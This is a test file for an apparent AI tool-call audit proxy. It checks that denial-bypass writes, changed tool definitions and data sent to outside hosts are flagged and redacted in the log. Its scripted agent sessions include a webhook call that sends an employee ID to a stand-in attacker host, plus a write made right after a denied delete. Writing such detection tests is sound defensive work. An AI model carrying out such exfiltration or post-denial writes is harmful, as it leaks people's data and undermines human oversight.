/**
 * Live findings run every rule the offline commands run: the guard's
 * decisions reach `write-after-denial`, tool changes reach `tool-changed`,
 * and a plugin's own rule (`examples/plugins/outside_host.ts`, a module
 * plugin the proxy runs in a worker) is logged live too. The finding events
 * carry entities without a path, which the redact hook must take.
 *
 * @module
 */
import assert from "node:assert/strict";
import type { AuditEvent } from "../../lib/audit/event.ts";
import { findFindings } from "../../lib/findings/find_findings.ts";
import { BUILTIN_RULES } from "../../lib/findings/builtin_rules.ts";
import outsideHost from "../../examples/plugins/outside_host.ts";
import { cliArgs, tempDir } from "../_helpers.ts";
import {
  FINDINGS_CONFIG,
  recordSession,
  type ScriptedTool,
  structured,
} from "./_proxy_session.ts";

const PLUGIN = new URL(
  "../../examples/plugins/outside_host.ts",
  import.meta.url,
).pathname;

const TOOLS: ScriptedTool[] = [
  { name: "get_employee", result: structured({ id: "E001", name: "Ada" }) },
  { name: "delete_employee" },
  { name: "update_employee" },
  { name: "send_webhook" },
];

const LIVE = {
  ...FINDINGS_CONFIG,
  plugins: [
    ...FINDINGS_CONFIG.plugins,
    { use: PLUGIN, options: { domains: ["example.com"] } },
  ],
  liveFindings: true,
  policy: {
    mode: "enforce",
    pinning: "monitor",
    rules: [{
      id: "no-delete",
      tool: "delete_*",
      action: "deny",
      reason: "Deletes need HR",
    }],
  },
};

function logged(events: AuditEvent[]): [string, string, number[]][] {
  return events.flatMap((e) =>
    e.kind === "finding" ? [[e.rule, e.severity, e.seqs]] : []
  );
}

async function verify(log: string): Promise<number> {
  const o = await new Deno.Command(Deno.execPath(), {
    args: cliArgs(["verify", log]),
    stdout: "null",
    stderr: "null",
  }).output();
  return o.code;
}

Deno.test("live findings: write-after-denial, tool-changed and a plugin's rule are logged as sealed finding events, matching the offline findings", async () => {
  await using dir = await tempDir();
  const log = (n: string) => `${dir.path}/${n}.jsonl`;
  // The first session pins the tools; the second's server changed one.
  await recordSession(TOOLS, [], log("pins"), LIVE);
  const changedTools = TOOLS.map((t) =>
    t.name === "update_employee"
      ? { ...t, annotations: { destructiveHint: true } }
      : t
  );
  const events = await recordSession(
    changedTools,
    [
      { tool: "get_employee", arguments: { id: "E001" } },
      { tool: "delete_employee", arguments: { id: "E001" } },
      { tool: "update_employee", arguments: { id: "E001", status: "left" } },
      {
        tool: "send_webhook",
        arguments: { url: "https://attacker.test/in", body: "E001" },
      },
    ],
    log("live"),
    LIVE,
  );
  const live = logged(events);
  const rules = new Set(live.map(([rule]) => rule));
  for (const rule of ["write-after-denial", "tool-changed", "outside-host"]) {
    assert.ok(
      rules.has(rule),
      `${rule} not logged live: ${JSON.stringify(live)}`,
    );
  }
  // No redaction failure on the finding events (the old `split` TypeError).
  for (const e of events) {
    assert.equal(
      "pluginErrors" in e ? JSON.stringify(e.pluginErrors) : undefined,
      undefined,
      JSON.stringify(e),
    );
  }
  const wad = events.find((e) =>
    e.kind === "finding" && e.rule === "write-after-denial"
  );
  assert.ok(wad && wad.kind === "finding");
  assert.deepEqual(wad.entities, [{ type: "employee", value: "E001" }]);
  // The most severe finding of each rule agrees with the one found offline.
  const offline = findFindings(events, {
    rules: [...BUILTIN_RULES, ...outsideHost.findings!],
  });
  for (const rule of rules) {
    const o = offline.filter((f) => f.rule === rule && f.severity === "high");
    const l = live.filter(([r, s]) => r === rule && s === "high");
    assert.deepEqual(
      l.map(([, , seqs]) => seqs),
      o.map((f) => f.seqs),
      rule,
    );
  }
  // Live and offline agree on every finding, not just the high ones: each
  // finding computed from the log was logged live (its loggedSeq is set),
  // and no finding was logged live that the log does not give again.
  assert.ok(offline.length >= 3, JSON.stringify(offline));
  for (const f of offline) {
    assert.ok(
      f.loggedSeq !== undefined && !f.loggedOnly,
      `${f.rule} ${f.severity} ${f.seqs}: ${JSON.stringify(offline)}`,
    );
  }
  assert.equal(await verify(log("live")), 0);
});

Deno.test("live findings: a session with no denial and unchanged pins logs neither write-after-denial nor tool-changed", async () => {
  await using dir = await tempDir();
  const log = (n: string) => `${dir.path}/${n}.jsonl`;
  await recordSession(TOOLS, [], log("pins"), LIVE);
  const events = await recordSession(
    TOOLS,
    [
      { tool: "get_employee", arguments: { id: "E001" } },
      { tool: "update_employee", arguments: { id: "E001", status: "left" } },
      {
        tool: "send_webhook",
        arguments: { url: "https://hooks.example.com/in", body: "E001" },
      },
    ],
    log("quiet"),
    LIVE,
  );
  const rules = logged(events).map(([rule]) => rule);
  for (const rule of ["write-after-denial", "tool-changed", "outside-host"]) {
    assert.ok(!rules.includes(rule), `${rule} in ${rules}`);
  }
});

Deno.test("live findings: a plugin's finding is redacted before the log as any event is; a built-in rule's is logged as the rules made it", async () => {
  // The plugin's title quotes its options, where a key-shaped string sits;
  // the built-in findings quote only logged (redacted) values.
  const key = "xoxb-1234567890-abcdefghijkl";
  const config = {
    ...LIVE,
    plugins: [
      ...FINDINGS_CONFIG.plugins,
      { use: PLUGIN, options: { domains: ["example.com", key] } },
    ],
    policy: undefined,
  };
  const events = await recordSession(
    TOOLS,
    [
      { tool: "update_employee", arguments: { id: "E001", status: "left" } },
      {
        tool: "send_webhook",
        arguments: { url: "https://attacker.test/in", body: "E001" },
      },
    ],
    undefined,
    config,
  );
  const text = JSON.stringify(events);
  assert.ok(!text.includes(key), "the key-shaped option reached the log");
  const outside = events.find((e) =>
    e.kind === "finding" && e.rule === "outside-host"
  );
  assert.ok(outside && outside.kind === "finding", text);
  assert.match(
    outside.title,
    /^send_webhook sent to attacker\.test, outside example\.com, \[REDACTED:slack_token/,
  );
  const builtin = events.filter((e) =>
    e.kind === "finding" && e.rule !== "outside-host"
  );
  assert.ok(builtin.length > 0, text);
  const offline = findFindings(events.filter((e) => e.kind !== "finding"));
  for (const e of builtin) {
    assert.ok(e.kind === "finding");
    const same = offline.find((f) =>
      f.rule === e.rule && f.severity === e.severity &&
      f.seqs.join() === e.seqs.join()
    );
    assert.ok(same, `${e.rule}: ${JSON.stringify(offline)}`);
    assert.deepEqual(
      [e.title, e.explanation, e.entities, e.value],
      [same.title, same.explanation, same.entities, same.value],
    );
  }
});
